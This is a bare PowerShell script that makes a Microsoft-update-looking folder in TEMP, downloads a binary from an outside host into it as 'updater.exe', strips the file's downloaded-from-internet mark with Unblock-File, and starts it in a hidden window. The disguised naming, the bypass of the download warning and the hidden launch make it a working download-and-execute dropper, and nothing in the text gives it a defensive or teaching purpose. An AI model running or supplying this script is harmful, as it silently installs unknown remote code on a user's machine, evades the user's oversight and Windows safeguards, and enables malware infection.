$dir = Join-Path $env:TEMP 'msupd'
New-Item -ItemType Directory -Force -Path $dir | Out-Null
$exe = Join-Path $dir 'updater.exe'

Invoke-WebRequest -Uri 'https://cdn.example-metrics.net/win/upd.bin' -OutFile $exe -UseBasicParsing
Unblock-File -Path $exe
Start-Process -FilePath $exe -WindowStyle Hidden
